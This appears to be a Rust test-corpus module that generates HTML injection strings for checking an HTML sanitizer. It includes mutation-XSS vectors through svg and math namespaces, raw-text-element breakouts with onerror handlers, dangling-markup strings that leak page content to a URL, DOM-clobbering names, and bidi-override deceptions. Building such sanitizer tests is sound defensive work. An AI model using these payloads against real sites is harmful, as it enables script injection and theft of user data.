//! Mutation: text that is harmless as it is parsed first, and harmful once it is written out and parsed again; ends of
//! elements hidden in attributes; markup left open so that it swallows what follows; text that shows other than it is.

use super::{each, owned};

pub(super) fn all() -> Vec<String> {
    let mut texts = Vec::new();
    for raw in RAW_TEXT {
        for prefix in ["", "<svg>", "<math>", "<math><mtext>"] {
            texts.push(format!("{prefix}<{raw}><p title=\"</{raw}><img src=x onerror={{js}}>\">"));
        }
        texts.push(format!("<{raw}></{raw}><img src={{url}} onerror={{js}}>"));
    }
    texts.extend(owned(&MUTATIONS));
    texts.extend(each(&["{x}"], &DANGLING));
    texts.extend(owned(&SEEMING));
    texts.push(format!("{}<img src=x onerror={{js}}>", "<div>".repeat(3000)));
    texts.push(format!("{}<img src=x onerror={{js}}>{}", "<b><i>".repeat(600), "</b></i>".repeat(600)));
    texts.push(format!("{}x{}<img src=x onerror={{js}}>", "> ".repeat(2000), "*".repeat(500)));
    texts.push(format!("<p title=\"{}\"><img src=x onerror={{js}}>", "a".repeat(20_000)));
    texts
}

const RAW_TEXT: [&str; 13] = [
    "style",
    "title",
    "textarea",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "noscript",
    "plaintext",
    "template",
    "select",
    "option",
    "script",
];

const MUTATIONS: [&str; 32] = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">",
    "<math><mtext><table><mglyph><style><math>  <img src=x onerror={js}></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror={js}></style></annotation-xml></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><img src=x onerror={js}></annotation-xml></math>",
    "<math><mtext><img src=x onerror={js}></mtext></math>",
    "<math><mi><p><style><img src=x onerror={js}></style></p></mi></math>",
    "<math><mglyph><malignmark><img src=x onerror={js}></malignmark></mglyph></math>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<img src=x onerror=parent.{js}>\"></iframe></foreignObject></svg>",
    "<svg><desc><img src=x onerror={js}></desc></svg>",
    "<svg><title><img src=x onerror={js}></title></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><style>&lt;img src=x onerror={js}&gt;</style></svg>",
    "<svg><p><style><a title=\"</style><img src onerror={js}>\"></style></p></svg>",
    "<svg><![CDATA[><img src=x onerror={js}>]]></svg>",
    "<svg><noscript><style><a title=\"</noscript><img src=x onerror={js}>\">",
    "<table><td><math><mtext><table><style><img src=x onerror={js}>",
    "<table><caption><svg><title><p><style></title><img src=x onerror={js}></style>",
    "<select><style><img src=x onerror={js}></style></select>",
    "<select><math><mtext><option><style></option></select><img src=x onerror={js}>",
    "<template><s><template shadowrootmode=open><img src=x onerror={js}></template></s></template>",
    "<div><template shadowrootmode=open><script>{js}</script></template></div>",
    "<p><b><a><p><table><a href=javascript:{js}>a</table></p>",
    "<a><svg><a><style><a title=\"</style></svg><img src=x onerror={js}>\">",
    "<h1><h2><h3><svg onload={js}><h4></h1>",
    "<p>`<img src=x onerror={js}>`</p>",
    "<img alt=\"`><img src=x onerror={js}>`\">",
    "<p id=\"a\"b\" title=\"><img src=x onerror={js}>\">",
    "<p title='&quot;><img src=x onerror={js}>'>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
];

/// Without an end: they wait for a quote or a bracket that comes later on the page.
const DANGLING: [&str; 12] = [
    "<img src='{url}?",
    "<img src=\"{url}?",
    "<a href='{url}?",
    "<a href=\"{url}\" title='",
    "<base target='",
    "<form action='{url}'><textarea name=x>",
    "<form action='{url}'><button type=submit>a<select name=x><option>",
    "<style>*{background:url('{url}?",
    "<!-- {url} <img src=x onerror={js}>",
    "<![CDATA[ <img src={url} onerror={js}>",
    "<plaintext>{url}<img src=x onerror={js}>",
    "</template></dialog></div></body></html><img src={url} onerror={js}>",
];

/// Names and texts that look like something else, and names that other scripts would trip over.
const SEEMING: [&str; 14] = [
    "\u{202e}}sj{<gmi\u{202c} <img src={url}>",
    "\u{2066}<img src={url}>\u{2069}",
    "a\u{0}b\u{8}c\u{1b}[31m<img src={url}>",
    "\u{200f}\u{200e}[https://github.com](javascript:{js})",
    "<form name=cookie><input name=getElementById><input name=querySelector></form><img src={url}>",
    "<img name=currentScript src={url}><a id=trustedTypes href={url}>a</a>",
    "<p id=__proto__ class=constructor>{url}</p><img src={url}>",
    "<a id=defaultView href={url}>a</a><a id=defaultView name=x href={url}>b</a>",
    "<update-banner src=\"{url}\"></update-banner>",
    "<version-widget src=\"{url}\"></version-widget>",
    "<dialog open><img src={url}></dialog>",
    "<slot name=x onslotchange={js}><img src={url}></slot>",
    "<button popovertarget=x>a</button><p popover id=x onbeforetoggle={js}><img src={url}></p>",
    "<button is=x-y commandfor=x command=show-modal>a</button><dialog id=x><img src={url}></dialog>",
];
